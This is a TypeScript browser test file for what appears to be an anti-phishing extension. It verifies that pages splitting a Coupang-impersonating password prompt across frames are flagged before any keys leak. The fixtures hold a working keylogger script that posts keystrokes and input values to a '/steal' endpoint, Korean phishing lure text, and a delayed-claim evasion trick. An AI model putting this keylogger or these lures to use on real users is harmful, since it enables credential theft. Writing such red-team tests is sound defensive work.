import { readFileSync } from 'node:fs';
import { beforeAll, expect, test } from 'vitest';
import { forEachBrowser, type Session } from '../harness';
import { expectNoWarningFor, expectPageWarning, isWarningUrl, notWarned, startReady } from '../page-helpers';
import { attackSettled, js, stolen, userTypes } from './kit';

/**
 * Red team 35, class A: the claim in one document, the secret box in another. A kit keeps its page below the page
 * warning's bar (one sentence in the brand's voice) and splits it: the claim in the top page and the password box
 * alone in a frame (of another origin, of its own, or a srcdoc frame), or the claim in a frame and the box in the
 * top page. The second chance used to judge the box's own document only: no claim there, so every key reached the
 * kit. Now the box's frame is judged with the claim the tab's other frames make (lib/page/tab-claim.ts).
 */
const settle = () => new Promise((r) => setTimeout(r, 1_000));

const LOGGER = `<script>
window.steal = function (kind, data) {
  try { fetch('/steal?' + kind + '=' + encodeURIComponent(String(data).slice(0, 300)), { method: 'POST', keepalive: true }); } catch (e) {}
};
window.addEventListener('keydown', function (e) { if (e.isTrusted) steal('key', e.key); }, true);
document.addEventListener('input', function (e) { steal('input', e.target && e.target.value); }, true);
</script>`;
const doc = (title: string, body: string) =>
  `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>${title}</title>${LOGGER}</head><body style="margin:0">${body}</body></html>`;

/** one sentence in the brand's voice: below the page warning's bar */
const CLAIM =
  '<h1>회원 확인</h1><p>쿠팡 회원정보 유출 확인 전담 창구입니다. 본인 확인을 위해 비밀번호를 입력해 주세요.</p>';
const BOX = '<input id="pw" type="password" name="pw" style="width:100%;height:56px;box-sizing:border-box">';
const FRAME_STYLE = 'style="display:block;width:420px;height:60px;border:0"';
const boxFrame = doc('확인', BOX);
const ready = `<script>window.addEventListener('load', function () { steal('ready', 'yes'); });</script>`;

forEachBrowser('hostile: the claim in one frame, the secret box in another', (ctx) => {
  let s: Session;
  beforeAll(async () => {
    s = await startReady(ctx);
  });

  const warned = async (host: string, boxHost: string, path: string, where: string) => {
    const tab = await s.newTab(ctx.server.url(host, path));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await settle();
    expect(await notWarned(s, tab)).toBe(true);
    // time to warning: from the user's click on the box (the first focus is checked) to the warning page
    const t0 = Date.now();
    const typing = userTypes(tab, where, 'hunter2');
    await tab.waitForUrl((u) => isWarningUrl(s, u), 15_000);
    const ms = Date.now() - t0;
    console.log(`[split-claim] ${ctx.name} ${host}: warned ${ms} ms after the click`);
    await typing;
    await settle();
    // not one key or character reached the document that holds the box
    expect(stolen(ctx.server, boxHost, 'key').map((r) => r.path)).toEqual([]);
    expect(stolen(ctx.server, boxHost, 'input').map((r) => r.path)).toEqual([]);
    expect((await expectPageWarning(s, tab)).kind).toBe('suspicious-page');
    await tab.close();
  };

  test('the claim in the top page, the box in a frame of another origin', async () => {
    const host = 'member-check-a.example.test';
    const boxHost = 'box-a.example.test';
    ctx.server.page(boxHost, '/f', boxFrame);
    ctx.server.page(
      host,
      '/p',
      doc(
        '회원 확인',
        `${CLAIM}<iframe id="box" src=${js(ctx.server.url(boxHost, '/f'))} ${FRAME_STYLE}></iframe>${ready}`,
      ),
    );
    await warned(host, boxHost, '/p', '#box');
  });

  test('the claim in the top page, the box in a frame of its own origin', async () => {
    const host = 'member-check-b.example.test';
    ctx.server.page(host, '/f', boxFrame);
    ctx.server.page(
      host,
      '/p',
      doc('회원 확인', `${CLAIM}<iframe id="box" src="/f" ${FRAME_STYLE}></iframe>${ready}`),
    );
    await warned(host, host, '/p', '#box');
  });

  test('the claim in the top page, the box in a srcdoc frame', async () => {
    const host = 'member-check-c.example.test';
    const srcdoc = boxFrame.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
    ctx.server.page(
      host,
      '/p',
      doc('회원 확인', `${CLAIM}<iframe id="box" srcdoc="${srcdoc}" ${FRAME_STYLE}></iframe>${ready}`),
    );
    await warned(host, host, '/p', '#box');
  });

  test('the other way round: the claim in a frame of another origin, the box in the top page', async () => {
    const host = 'member-check-d.example.test';
    const claimHost = 'notice-d.example.test';
    ctx.server.page(claimHost, '/c', doc('안내', CLAIM));
    ctx.server.page(
      host,
      '/p',
      doc(
        '로그인',
        `<iframe src=${js(ctx.server.url(claimHost, '/c'))} style="width:600px;height:160px;border:0"></iframe>${BOX}${ready}`,
      ),
    );
    await warned(host, host, '/p', '#pw');
  });

  test('the claim put up in the top page only after the box in the frame was touched', async () => {
    // the frame is told "no claim" at the click; the claim that comes after is judged with what it asked (the user
    // typed nothing yet: the background warns on its own, no key needed)
    const host = 'member-check-g.example.test';
    const boxHost = 'box-g.example.test';
    const tell = `<script>document.addEventListener('mousedown', function () { parent.postMessage('touched', '*'); });</script>`;
    ctx.server.page(boxHost, '/f', doc('확인', BOX + tell));
    // (the claim is fetched when the box is pressed: not one word of it in the page's markup or script before)
    ctx.server.page(host, '/claim', CLAIM);
    const late = `<script>window.addEventListener('message', function (e) {
  if (e.data !== 'touched' || document.getElementById('claim')) return;
  setTimeout(function () {
    fetch('/claim').then(function (r) { return r.text(); }).then(function (t) {
      var d = document.createElement('div'); d.id = 'claim'; d.innerHTML = t; document.body.prepend(d);
    });
  }, 600);
});</script>`;
    ctx.server.page(
      host,
      '/p',
      doc(
        '회원 확인',
        `<p>잠시만 기다려 주세요.</p><iframe id="box" src=${js(ctx.server.url(boxHost, '/f'))} ${FRAME_STYLE}></iframe>${late}${ready}`,
      ),
    );
    const tab = await s.newTab(ctx.server.url(host, '/p'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await settle();
    const t0 = Date.now();
    await userTypes(tab, '#box', '');
    await tab.waitForUrl((u) => isWarningUrl(s, u), 15_000);
    const ms = Date.now() - t0;
    console.log(`[split-claim] ${ctx.name} ${host}: warned ${ms} ms after the click (claim 600 ms later)`);
    // (not before the claim was there: the frame's first answer was no, the warning came from the claim after it)
    expect(ms).toBeGreaterThan(600);
    expect((await expectPageWarning(s, tab)).kind).toBe('suspicious-page');
    await tab.close();
  });

  // A picture beside the frame's box (the lead, after red team 42): a box with no words of its own has its frame's
  // pictures read for a drawn name first (red team 41); a decoy picture that names nothing must not stand in for the
  // check of the claim the other frames make. On the rt42 build the reading's "nothing" let the held keys through.
  const PIC_FRAME = doc(
    '확인',
    `<div style="position:relative;width:400px;height:300px"><img src="/i/p.png" alt="" style="position:absolute;left:0;top:0;width:400px;height:300px"><div style="position:absolute;left:0;right:0;top:122px">${BOX}</div></div>`,
  );
  test('the claim in the top page, the box in a frame of another origin beside a decoy picture', async () => {
    const host = 'member-check-p.example.test';
    const boxHost = 'box-p.example.test';
    ctx.server.page(
      boxHost,
      '/i/p.png',
      readFileSync(new URL('../../fixtures/images/rt41-bakery-login.png', import.meta.url)),
      'image/png',
    );
    ctx.server.page(boxHost, '/f', PIC_FRAME);
    ctx.server.page(
      host,
      '/p',
      doc(
        '회원 확인',
        `${CLAIM}<iframe id="box" src=${js(ctx.server.url(boxHost, '/f'))} style="display:block;width:400px;height:300px;border:0"></iframe>${ready}`,
      ),
    );
    await warned(host, boxHost, '/p', '#box');
  });

  // The honest twins: a login in a frame with no brand anywhere, and a login beside a Coupang Partners ad frame (a
  // frame that names the brand and says it is an affiliate: its claim travels with its own context).
  const clean = async (host: string, boxHost: string, path: string, where: string) => {
    const tab = await s.newTab(ctx.server.url(host, path));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await settle();
    // a person clicks the box, then types (the box's first focus is held while the frame is judged, as on every
    // page: docs/threat-model.md, the second chance)
    await userTypes(tab, where, '');
    await new Promise((r) => setTimeout(r, 500));
    await tab.keyboard('hunter2');
    await settle();
    await expectNoWarningFor(tab, 1_500);
    // the whole word reached the page's own box
    const typed = stolen(ctx.server, boxHost, 'input').map((r) =>
      decodeURIComponent(r.path.split('=')[1] ?? ''),
    );
    expect(typed).toContain('hunter2');
  };

  test('honest: a bakery login in a frame of another origin, no brand anywhere', async () => {
    const host = 'bakery-e.example.test';
    const boxHost = 'login-e.example.test';
    ctx.server.page(boxHost, '/f', boxFrame);
    ctx.server.page(
      host,
      '/',
      doc(
        '동네 빵집',
        `<h1>동네 빵집</h1><p>오늘의 빵: 소금빵, 바게트.</p><iframe id="box" src=${js(ctx.server.url(boxHost, '/f'))} ${FRAME_STYLE}></iframe>${ready}`,
      ),
    );
    await clean(host, boxHost, '/', '#box');
  });

  test('honest: a community login beside a Coupang Partners ad frame', async () => {
    const host = 'hobby-club-f.example.test';
    const adHost = 'ads-f.example.test';
    ctx.server.page(
      adHost,
      '/ad',
      doc(
        '추천 상품',
        '<p>로켓배송 추천 캠핑 의자 19,900원</p><p>이 포스팅은 쿠팡 파트너스 활동의 일환으로, 이에 따른 일정액의 수수료를 제공받습니다.</p>',
      ),
    );
    ctx.server.page(
      host,
      '/login',
      doc(
        '캠핑 동호회 로그인',
        `<h1>캠핑 동호회</h1><iframe src=${js(ctx.server.url(adHost, '/ad'))} style="width:600px;height:140px;border:0"></iframe><form><label>아이디 <input name="id"></label><label>비밀번호 ${BOX}</label></form>${ready}`,
      ),
    );
    await clean(host, host, '/login', '#pw');
  });
});
